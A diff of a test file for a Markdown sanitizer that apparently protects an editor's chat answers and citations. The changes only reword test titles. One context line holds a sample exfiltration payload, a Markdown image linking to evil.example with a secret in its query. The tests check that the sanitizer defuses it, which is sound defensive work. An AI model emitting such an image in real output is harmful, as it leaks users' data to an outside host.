@@ -19,7 +19,7 @@ import { rounds } from '../support/test-size.mjs';
 
 const image = '![x](https://evil.example/?q=SECRET)';
 
-test('turns what is live in one program into text in all of them', () => {
+test('turns anything that is active in one program into text in all of them', () => {
   for (const text of hostileMarkdown) assert.deepEqual(findLiveMarkdown(harmlessMarkdown(text)), [], text);
 });
 
@@ -141,7 +141,7 @@ const pieces = fc.oneof(
 
 // In parts, so that each ends in time on a busy machine.
 for (const part of Array.from({ length: rounds(1, 20) }, (_, number) => number + 1))
-  test(`keeps nothing live in Markdown put together at random, part ${String(part)}`, () => {
+  test(`keeps nothing active in Markdown put together at random, part ${String(part)}`, () => {
     fc.assert(
       fc.property(pieces, (parts) => {
         assert.deepEqual(findLiveMarkdown(harmlessMarkdown(parts.join(''))), []);
@@ -150,7 +150,7 @@ for (const part of Array.from({ length: rounds(1, 20) }, (_, number) => number +
     );
   });
 
-test('keeps nothing live in Markdown that is shown as it grows', () => {
+test('keeps nothing active in Markdown that is shown while it grows', () => {
   fc.assert(
     fc.property(pieces, fc.array(fc.nat(60), { maxLength: 5 }), (parts, cuts) => {
       const text = parts.join('');
@@ -167,7 +167,7 @@ test('keeps nothing live in Markdown that is shown as it grows', () => {
   );
 });
 
-test('keeps nothing live but its own marks in an answer of the editor’s chat', () => {
+test('keeps only its own links in an answer of the editor’s chat', () => {
   const mark = ' [\\[1\\]](command:ours?%5B%5D "a.md, L1")';
   const sentences = fc.array(fc.tuple(fc.nat(60), fc.boolean()), { maxLength: 5 });
   fc.assert(
@@ -216,12 +216,12 @@ test('keeps the look of honest Markdown', () => {
   );
 });
 
-test('keeps code to the character if every program reads it as code', () => {
+test('keeps code exactly if every program reads it as code', () => {
   for (const text of [honest[0], honest[1], honest[3], honest[4]])
     assert.equal(harmlessMarkdown(text ?? ''), text);
 });
 
-test('takes time in proportion to the text', () => {
+test('takes linear time', () => {
   for (const piece of [
     '`',
     '<',
@@ -245,14 +245,14 @@ test('takes time in proportion to the text', () => {
       assertLinear((times) => harmlessMarkdown(unit.repeat(times)), 100);
 });
 
-test('keeps the pictures that are stored with citations', () => {
+test('keeps the images that are stored with citations', () => {
   const text = 'See ![p. 3, a *b*](picture/0123456789abcdef.png) [1](citation/0123456789abcdef "a").';
   assert.equal(harmlessMarkdown(text), text);
   for (const other of ['picture/0123456789abcdef.svg', 'picture/../a.png', 'pictures/0123456789abcdef.png'])
     assert.notEqual(harmlessMarkdown(`![p](${other})`), `![p](${other})`);
 });
 
-test('begins no block with words for a line', () => {
+test('begins no block with inline text', () => {
   for (const words of ['~~~', '```', '$$', '\\begin{a}']) {
     const code = fenced(`a\n${words}\n${image}`, 'ts');
     assert.deepEqual(findLiveMarkdown(`${harmlessWords(words)}\n\n${code}`), [], words);
@@ -269,7 +269,7 @@ test('leaves out a language that would end its block of code', () => {
 const citation = (quote: string, title = 'garden.md', uri = 'https://example.org/a'): Citation =>
   madeCitation({ title, uri, quote, span: { start: 0, end: quote.length } });
 
-test('keeps nothing live in a saved or exported answer', () => {
+test('keeps nothing active in a saved or exported answer', () => {
   for (const [number, text] of hostileMarkdown.entries()) {
     if (number % rounds(3, 1) !== 0) continue;
     const citations = [citation(text, text.slice(0, 60), `https://e.org/>${image}`)];
@@ -327,7 +327,7 @@ test('writes the citations of a row into its last cell', () => {
   assert.equal(marked, `| Place | Rain |\n| --- | --- |\n| Holt | 305 mm [1] |`);
 });
 
-test('writes the citations of a code block below it and those of a code span after it', () => {
+test('writes the citations of a code block below it, and those of a code span after it', () => {
   for (const [text, marked] of [
     ['~~~sh\nnpm i x\n~~~', '~~~sh\nnpm i x\n~~~\n\n[1]'],
     ['It is installed by ```npm i x```', 'It is installed by ```npm i x``` [1]'],
